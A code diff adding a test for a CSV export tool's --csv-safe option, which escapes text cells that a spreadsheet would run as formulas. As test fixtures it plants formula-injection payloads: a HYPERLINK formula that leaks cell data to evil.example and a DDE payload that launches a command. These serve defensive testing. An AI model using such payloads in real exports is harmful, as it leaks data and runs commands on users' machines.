@@ -41,6 +41,8 @@ const DAY_OF: Partial<Record<(typeof DATA_TABLES)[number], string>> = {
 
 const glob = (dir: string, table: string, ext: string) => `${dir}/${table}/**/*.${ext}`;
 
+const FORMULA_ANSWER = '=HYPERLINK("https://evil.example/?leak="&A1,"open")';
+
 for (const target of warehouseTargets('export')) {
   describe.skipIf(target.skip)(`export from ${target.dialect}`, () => {
     let sim: RunningSimulator;
@@ -54,6 +56,13 @@ for (const target of warehouseTargets('export')) {
       url = await target.create();
       sim = await startSimulator({ seed: 11, days: 2, executionsPerDay: 15 });
       days = sim.world.dates();
+      // Text a spreadsheet would run as a formula (issue 27 item 8), stored like any other.
+      const [first, second] = sim.world
+        .allPlatformTasks()
+        .flatMap((t) => days.flatMap((d) => [...sim.world.executions(t.task_id, d)]));
+      sim.world.mutations.setAnswer(first!.prompt_task_id, FORMULA_ANSWER);
+      sim.world.mutations.setAnswer(second!.prompt_task_id, "-2+3+cmd|' /C calc'!A0");
+      sim.world.mutations.renameMonitoringTask(first!.project_id, '@SUM(1+1)');
       await syncOnce({ baseUrl: sim.url, target: url, dates: days });
       out = mkdtempSync(join(tmpdir(), 'geo-export-'));
       reader = createTempDuckDB('export-reader');
@@ -139,6 +148,57 @@ for (const target of warehouseTargets('export')) {
         expect(fromCsv.length, table).toBe(fromParquet.length);
         fromCsv.forEach((row, i) => expect(row, `${table} row ${i}`).toEqual(fromParquet[i]));
       }
+    });
+
+    // Issue 27 item 8: CSV stays exact by default (a lake needs the values as stored, and says so
+    // in a note); --csv-safe prefixes with ' every text cell a spreadsheet would run, nothing else.
+    it('--csv-safe prefixes text cells a spreadsheet would run as formulas, and nothing else', async () => {
+      const tables = 'prompt_executions,monitoring_tasks,deductions';
+      const plain = join(out, 'csv-plain');
+      const safe = join(out, 'csv-safe');
+      const p = await runCli(['export', '--format', 'csv', '--out', plain, '--tables', tables], env);
+      expect(p.code, p.stderr).toBe(0);
+      expect(p.stderr).toContain('a spreadsheet runs a cell beginning with =, +, - or @ as a formula');
+      const r = await runCli(
+        ['export', '--format', 'csv', '--csv-safe', '--out', safe, '--tables', tables],
+        env,
+      );
+      expect(r.code, r.stderr).toBe(0);
+      expect(r.stderr).not.toContain('note:');
+
+      const read = (dir: string, table: string, key: string) =>
+        fileRows(
+          `SELECT COLUMNS(*)::VARCHAR FROM read_csv('${glob(dir, table, 'csv')}', hive_partitioning = true, all_varchar = true, header = true, allow_quoted_nulls = false) ORDER BY CAST(${key} AS BIGINT)`,
+        );
+      const text = new Set(['answer', 'think', 'prompt_name', 'project_name', 'remark', 'brand_exposure']);
+      let prefixed = 0;
+      for (const [table, key] of [
+        ['prompt_executions', 'prompt_task_id'],
+        ['monitoring_tasks', 'project_id'],
+        ['deductions', 'id'],
+      ] as const) {
+        const before = await read(plain, table, key);
+        const after = await read(safe, table, key);
+        expect(after.length, table).toBe(before.length);
+        before.forEach((row, i) => {
+          for (const [column, value] of Object.entries(row)) {
+            const got = after[i]![column];
+            if (typeof value === 'string' && /^[=+\-@\t\r]/.test(value) && text.has(column)) {
+              expect(got, `${table}.${column}`).toBe(`'${value}`);
+              prefixed++;
+            } else expect(got, `${table}.${column}`).toBe(value);
+          }
+        });
+      }
+      // The three planted above (the answers, the name), and a negative amount left a number.
+      expect(prefixed).toBeGreaterThanOrEqual(3);
+      const answers = (await read(safe, 'prompt_executions', 'prompt_task_id')).map((r) => r.answer);
+      expect(answers).toContain(`'${FORMULA_ANSWER}`);
+      expect(answers).toContain("'-2+3+cmd|' /C calc'!A0");
+      const names = (await read(safe, 'monitoring_tasks', 'project_id')).map((r) => r.project_name);
+      expect(names).toContain("'@SUM(1+1)");
+      const amounts = (await read(safe, 'deductions', 'id')).map((r) => String(r.diff_amount));
+      expect(amounts.some((a) => a.startsWith('-'))).toBe(true);
     });
 
     it('re-exporting days replaces exactly those days', async () => {
@@ -270,6 +330,7 @@ describe('export flags', () => {
       /--from 2026-11-02 is after --to 2026-11-01/,
     ],
     [['--format', 'csv', '--out', '/tmp/x', '--from', '2026-13-01'], /expected a day as YYYY-MM-DD/],
+    [['--format', 'parquet', '--out', '/tmp/x', '--csv-safe'], /--csv-safe applies to --format csv only/],
   ])('%j exits 2 with one clear line', async (args, message) => {
     const r = await runCli(['export', ...args], env);
     expect(r.code).toBe(2);
